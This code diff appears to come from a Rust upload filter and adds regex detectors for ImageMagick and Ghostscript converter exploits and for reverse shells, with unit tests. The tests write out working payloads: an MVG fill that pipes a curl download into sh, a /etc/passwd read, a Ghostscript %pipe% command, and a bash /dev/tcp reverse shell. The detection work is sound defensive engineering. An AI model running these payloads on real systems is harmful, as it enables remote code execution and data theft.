@@ -22,6 +22,15 @@ const YAML_OBJECT: &str = r"(?-u)!!python/(?:object|name|module)|!!(?:javax?|com
 /// Spreadsheet cells that run a program when the file is opened (DDE).
 const DDE: &str = r"(?i-u)\b(?:cmd|msexcel|mshta|powershell)\s*\|\s*'|=\s*dde\s*\(";
 /// Script in an SVG image, which runs when the image is opened from the site's origin.
+/// Files that exploit the image converters a backend hands uploads to: ImageMagick's MVG
+/// drawing a URL that ends in a shell pipe (ImageTragick, CVE-2016-3714) or reading a file
+/// through its own coders, and PostScript that opens a pipe (Ghostscript's `%pipe%`,
+/// CVE-2018-16509's `null restore } stopped`). Image files never hold these.
+const CONVERTER_EXPLOIT: &str = r#"(?i-u)\bpush\s+graphic-context\b[\s\S]{0,4000}?(?:\burl\([^)\n]{0,400}?["'|;`]\s*[|;`]|\burl\([^)\n]{0,400}?\|[^)\n]{0,400}?\)|\b(?:ephemeral|msl|label|text):[@/]|\bimage\s+over\s+[^\n]{0,60}?\b(?:ephemeral|msl|label|text):)|%!PS[\s\S]{0,20000}?(?:\(\s*%pipe%|\bnull\s+restore\s*\}\s*stopped\b|\.(?:tempfile|libfile|putdeviceprops)\b)"#;
+/// An interactive shell wired to a socket (`bash -i >& /dev/tcp/host/port 0>&1`): a
+/// reverse shell, whatever file it arrives in; health checks open /dev/tcp without `-i`.
+const REVERSE_SHELL: &str = r"(?-u)\b(?:ba|z|k|da)?sh\s+-i\s*[0-9<>&\s]{0,10}/dev/(?:tcp|udp)/";
+
 const SVG_SCRIPT: &str = r#"(?i-u)<script\b|\son[a-z]{3,}\s*=|javascript:"#;
 
 /// The rule an uploaded file (or a body forwarded unparsed) breaks, if any.
@@ -35,9 +44,18 @@ pub(super) fn refusal(parsed: &Parsed<'_>, body: &[u8]) -> Option<&'static str> 
 
 /// The rule `file` breaks, if any.
 fn active(file: &[u8]) -> Option<&'static str> {
-    static RULES: OnceLock<[Option<Regex>; 4]> = OnceLock::new();
-    let [server, yaml, dde, svg] = RULES
-        .get_or_init(|| [SERVER_CODE, YAML_OBJECT, DDE, SVG_SCRIPT].map(|p| Regex::new(p).ok()));
+    static RULES: OnceLock<[Option<Regex>; 6]> = OnceLock::new();
+    let [server, yaml, dde, converter, shell, svg] = RULES.get_or_init(|| {
+        [
+            SERVER_CODE,
+            YAML_OBJECT,
+            DDE,
+            CONVERTER_EXPLOIT,
+            REVERSE_SHELL,
+            SVG_SCRIPT,
+        ]
+        .map(|p| Regex::new(p).ok())
+    });
     let hit = |r: &Option<Regex>| r.as_ref().is_some_and(|r| r.is_match(file));
     if rampart_parse::xml::declares_external_entity(file) {
         return Some("xml-external-entity");
@@ -50,6 +68,12 @@ fn active(file: &[u8]) -> Option<&'static str> {
     }
     if hit(dde) {
         return Some("upload-spreadsheet-dde");
+    }
+    if hit(converter) {
+        return Some("upload-converter-exploit");
+    }
+    if hit(shell) {
+        return Some("upload-reverse-shell");
     }
     (is_svg(file) && hit(svg)).then_some("upload-svg-script")
 }
@@ -134,6 +158,22 @@ mod tests {
                 b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
                 "xml-external-entity",
             ),
+            (
+                b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|curl -s http://x.example/x.sh | sh\")'\npop graphic-context\n",
+                "upload-converter-exploit",
+            ),
+            (
+                b"push graphic-context\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context",
+                "upload-converter-exploit",
+            ),
+            (
+                b"%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops\n",
+                "upload-converter-exploit",
+            ),
+            (
+                b"require('child_process').exec('bash -c \"bash -i >& /dev/tcp/10.13.37.5/4444 0>&1\"')",
+                "upload-reverse-shell",
+            ),
         ];
         for (file, rule) in active_files {
             assert_eq!(active(file), Some(*rule), "{}", file.escape_ascii());
@@ -151,6 +191,9 @@ mod tests {
             b"<p>Use <script language=\"javascript\"> in old pages; <% if user %> is ERB.</p>",
             b"Set the <%= request.path %> helper; evaluation order matters",
             b"<configuration><appSettings><add key=\"theme\" value=\"dark\"/></appSettings></configuration>",
+            b"push graphic-context\nviewbox 0 0 100 100\nfill 'url(#gradient)'\nrectangle 0,0 100,100\npop graphic-context\n",
+            b"%!PS-Adobe-3.0\n<< /PageSize [595 842] >> setpagedevice\n/Helvetica findfont 12 scalefont setfont\nshowpage\n",
+            b"#!/bin/bash\n# wait for the database\ntimeout 30 bash -c 'until exec 3<>/dev/tcp/db/5432; do sleep 1; done'\n",
         ];
         for file in ordinary {
             assert_eq!(active(file), None, "{}", file.escape_ascii());
